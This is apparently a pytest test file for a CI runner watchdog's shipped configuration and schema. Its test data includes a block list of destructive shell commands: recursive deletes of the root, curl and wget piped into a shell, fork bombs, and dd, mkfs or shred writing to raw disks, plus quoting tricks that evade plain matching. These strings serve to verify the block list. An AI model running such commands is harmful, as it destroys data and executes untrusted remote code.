"""The shipped config/runner.yaml and its schema: valid under --strict, shipped
inside the package too, and blocking the commands it promises to block."""

from __future__ import annotations

import json
import re
import socket
from pathlib import Path

import pytest
from click.testing import CliRunner

from exporter.cli import main
from exporter.commandpolicy import decide
from exporter.config import load_config, validate_config
from exporter.config.reference import END_MARKER, START_MARKER, replace_reference
from exporter.config.schema import config_schema
from yamlsource import load_file

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = ROOT / "config" / "runner.yaml"
SCHEMA = ROOT / "config" / "runner.schema.json"
PACKAGE = ROOT / "exporter" / "config"


@pytest.fixture(scope="module")
def shipped():
    return load_config(SHIPPED, strict=True)


def test_shipped_config_passes_strict_validation_without_any_warning():
    config, problems = validate_config(SHIPPED, strict=True)
    assert [str(p) for p in problems] == []
    assert config is not None


def test_config_validate_strict_passes_on_the_shipped_default(monkeypatch):
    monkeypatch.delenv("RUNNER_WATCHDOG_CONFIG", raising=False)
    result = CliRunner().invoke(main, ["config", "validate", "--strict", str(SHIPPED)])
    assert result.exit_code == 0
    assert result.stdout == f"valid --strict: {SHIPPED} (0 errors, 0 warnings)\n"
    assert result.stderr == f"config: {SHIPPED} (from the command line)\n"


@pytest.mark.parametrize("name", ["runner.yaml", "runner.schema.json"])
def test_package_ships_an_identical_copy(name):
    shipped = (ROOT / "config" / name).read_bytes()
    packaged = (PACKAGE / name).read_bytes()
    assert packaged == shipped, f"copy config/{name} to exporter/config/{name}"


def test_schema_file_is_valid_and_formatted_for_clean_diffs():
    text = SCHEMA.read_text()
    assert text == json.dumps(json.loads(text), indent=2, ensure_ascii=False) + "\n"
    assert config_schema() == json.loads(text)


def test_schema_defaults_list_the_same_runners_as_the_shipped_file():
    written = load_file(SHIPPED).data["runners"]
    assert written == config_schema()["properties"]["runners"]["default"]


def test_readme_config_reference_matches_the_schema_golden(update_golden):
    readme = ROOT / "README.md"
    text = readme.read_text()
    assert START_MARKER in text and END_MARKER in text
    expected = replace_reference(text)
    if update_golden and text != expected:
        readme.write_text(expected)
        text = readme.read_text()
    assert text == expected, "README config reference is stale: run `make golden`"


def test_shipped_config_fills_host_and_evidence_for_this_machine(shipped):
    assert shipped.metrics.host == socket.gethostname()
    assert shipped.logging.evidence_dir == Path.cwd() / "evidence" / "runner"
    assert shipped.default_environment == "ci"
    assert list(shipped.environments) == ["dev", "ci", "prod"]
    assert list(shipped.command_types) == ["test", "lint", "build", "deploy"]


def test_shipped_allowances_per_environment(shipped):
    dev, prod = shipped.allowance("build", "dev"), shipped.allowance("deploy", "prod")
    assert (dev.stall_seconds, dev.hard_timeout_seconds, dev.action) == (
        1800,
        14400,
        "kill",
    )
    assert (prod.stall_seconds, prod.kill_grace_seconds, prod.action) == (
        1200,
        30,
        "observe",
    )
    other = shipped.allowance("other", "ci")
    assert (other.stall_seconds, other.hard_timeout_seconds, other.action) == (
        300,
        3600,
        "observe",
    )


def test_shipped_security_allows_what_the_test_suites_run(shipped):
    security = shipped.security
    assert security.allow_shell is True
    assert security.shells == ("sh", "bash")
    for command in ("python3", "python", "sleep", "true", "false", "echo", "make"):
        assert command in security.allowed_commands


# Real command lines, as the run wrapper joins argv with single spaces.
MUST_BLOCK = {
    "rm-rf-root": "rm -rf /",
    "rm-fr-root-slash-star": "rm -fr /*",
    "rm-split-flags": "rm -r -f /",
    "rm-long-flags": "rm --recursive --force /",
    "rm-no-preserve-root": "rm -rf --no-preserve-root /",
    "rm-quoted-root": "rm -rf '/'",
    "rm-capital-r": "/bin/rm -Rf //",
    "sudo-rm-in-script": "sudo rm -rf / && echo done",
    "rm-root-among-others": "rm -rf /tmp/build /",
    "curl-pipe-sh": "curl -fsSL https://get.example.com/install.sh | sh",
    "curl-pipe-sudo-bash": "curl https://x.example | sudo -E bash",
    "wget-pipe-bash": "wget -qO- http://x.example/i | bash -s -- --yes",
    "curl-pipe-bin-sh": "curl -s x.example|/bin/sh",
    "curl-pipe-python": "curl -sSL https://x.example/get.py | python3 -",
    "sh-c-curl-substitution": 'sh -c "$(curl -fsSL https://x.example/i.sh)"',
    "bash-process-substitution": "bash <(wget -O- https://x.example/i.sh)",
    "fork-bomb-classic": ":(){ :|:& };:",
    "fork-bomb-spaced": ":() { : | : & }; :",
    "fork-bomb-named": "bomb(){ bomb|bomb& };bomb",
    "fork-bomb-function-keyword": "function f { f | f & }; f",
    "fork-bomb-perl": "perl -e 'fork while fork'",
    "fork-bomb-python": "python3 -c 'import os\nwhile True: os.fork()'",
    "dd-to-sda": "dd if=/dev/zero of=/dev/sda bs=1M",
    "dd-to-nvme": "dd if=image.iso of=/dev/nvme0n1 status=progress",
    "redirect-to-disk": "cat image > /dev/sdb",
    "redirect-no-space": "echo x >/dev/vda",
    "tee-to-disk": "tee -a /dev/xvda",
    "dd-to-disk-by-id": "dd if=/dev/urandom of=/dev/disk/by-id/ata-X",
    "mkfs-on-disk": "mkfs.ext4 /dev/sdb1",
    "wipefs-on-disk": "wipefs -a /dev/mmcblk0",
    "shred-disk": "shred -n 1 /dev/sda",
    "chmod-recursive-root": "chmod -R 777 /",
    "chown-recursive-root": "chown -R nobody: /",
    "rm-root-star-slash": "rm -rf /*/",
    "rm-root-glob": "rm -rf /?*",
    "cd-root-rm-star": "cd / && rm -rf *",
    "curl-pipe-env-sh": "curl https://x.example/i | env sh",
    "curl-pipe-usr-bin-env-bash": "curl https://x.example/i | /usr/bin/env bash",
    "curl-pipe-exec-sh": "curl https://x.example/i | exec sh",
    "eval-curl": 'eval "$(curl -fsSL https://x.example/i.sh)"',
}

# Shell quoting that hides a blocked command from a plain search; the run
# wrapper also searches each shell script with its quoting undone.
MUST_BLOCK_IN_SCRIPTS = {
    "backslash-rm": "\\rm -rf /*",
    "empty-quotes-in-rm": 'r""m -rf /*',
    "quoted-root-then-glob": 'rm -rf "/"*',
    "after-another-command": "exit 0; rm -rf '/'",
}

MUST_ALLOW = {
    "rm-build-dir": "rm -rf /tmp/build",
    "rm-relative": "rm -rf ./build dist/",
    "rm-file-in-root-dir": "rm -f /tmp/x.lock",
    "rm-not-recursive-root": "rm /",
    "curl-to-file": "curl -fsSLo install.sh https://x.example/install.sh",
    "curl-pipe-jq": "curl -s https://api.example/v1 | jq .name",
    "curl-pipe-shellcheck": "curl -s https://x.example/i.sh | shellcheck -",
    "dd-to-file": "dd if=/dev/zero of=/tmp/disk.img bs=1M count=10",
    "dd-read-disk": "dd if=/dev/sda of=backup.img",
    "redirect-to-null": "make >/dev/null 2>&1",
    "redirect-to-stderr": "echo oops > /dev/stderr",
    "recursive-function-without-fork": "f(){ echo hi; }; f",
    "pytest": "python3 -m pytest -q tests",
    "make-test": "make test",
    "sh-script": "sh -c 'sleep 600 & echo started; wait'",
    "chmod-recursive-dir": "chmod -R 755 /srv/app",
    "git-clean": "git clean -fdx",
}


@pytest.mark.parametrize(
    "command", list(MUST_BLOCK.values()), ids=list(MUST_BLOCK.keys())
)
def test_shipped_patterns_block_destructive_commands(shipped, command):
    assert shipped.security.blocking_pattern(command) is not None


@pytest.mark.parametrize(
    "script",
    list(MUST_BLOCK_IN_SCRIPTS.values()),
    ids=list(MUST_BLOCK_IN_SCRIPTS.keys()),
)
def test_shipped_patterns_block_quoted_variants_in_shell_scripts(shipped, script):
    decision = decide(shipped.security, ["sh", "-c", script])

    assert not decision.allowed
    assert decision.rule.startswith("security.blocked_patterns[")


@pytest.mark.parametrize(
    "command", list(MUST_ALLOW.values()), ids=list(MUST_ALLOW.keys())
)
def test_shipped_patterns_let_ordinary_commands_through(shipped, command):
    assert shipped.security.blocking_pattern(command) is None


RUNNER_LINES = [
    ("github-actions", "Runner.Listener", "/opt/runner/bin/Runner.Listener run"),
    (
        "gitlab-runner",
        "gitlab-runner",
        "/usr/bin/gitlab-runner run --working-directory x",
    ),
    ("jenkins-agent", "java", "java -jar agent.jar -url https://ci.example/ -name n1"),
    (
        "jenkins-agent",
        "java",
        "/usr/lib/jvm/bin/java -cp /home/jenkins/remoting.jar hudson.remoting.Launcher",
    ),
    ("buildkite", "buildkite-agent", "buildkite-agent start"),
    (
        "runner-watchdog-run",
        "runner-watchdog",
        "/srv/.venv/bin/python /srv/.venv/bin/runner-watchdog run -- make test",
    ),
]


def _runner_of(config, executable: str, command_line: str) -> str | None:
    for runner in config.runners:
        pattern = runner.argument_pattern
        if executable in runner.executables or (
            pattern is not None and pattern.search(command_line)
        ):
            return runner.name
    return None


@pytest.mark.parametrize(
    ("name", "executable", "command_line"),
    RUNNER_LINES,
    ids=[f"{name}-{i}" for i, (name, _, _) in enumerate(RUNNER_LINES)],
)
def test_shipped_runners_recognise_their_agents(
    shipped, name, executable, command_line
):
    assert _runner_of(shipped, executable, command_line) == name


@pytest.mark.parametrize(
    ("executable", "command_line"),
    [
        ("runner-watchdog", "/srv/.venv/bin/runner-watchdog serve --config x"),
        ("java", "java -jar app.jar --server.port=8080"),
        ("python3", "python3 -m http.server"),
    ],
    ids=["exporter-itself", "java-service", "python"],
)
def test_shipped_runners_ignore_other_processes(shipped, executable, command_line):
    assert _runner_of(shipped, executable, command_line) is None


@pytest.mark.parametrize(
    ("command_line", "expected"),
    [
        ("python3 -m pytest -q", "test"),
        ("go test ./...", "test"),
        ("make test", "test"),
        ("python3 -m mypy exporter", "lint"),
        ("make deploy", "deploy"),
        ("make -j4", None),
    ],
    ids=["pytest-module", "go-test", "make-test", "mypy-module", "make-deploy", "make"],
)
def test_shipped_argument_patterns_pick_the_first_matching_type(
    shipped, command_line, expected
):
    matching = [
        kind.name
        for kind in shipped.command_types.values()
        if kind.argument_pattern is not None
        and kind.argument_pattern.search(command_line)
    ]
    assert (matching[0] if matching else None) == expected


def test_every_shipped_pattern_compiles_and_needs_text(shipped):
    for pattern in shipped.security.blocked_patterns:
        assert isinstance(pattern, re.Pattern)
        assert pattern.search("") is None
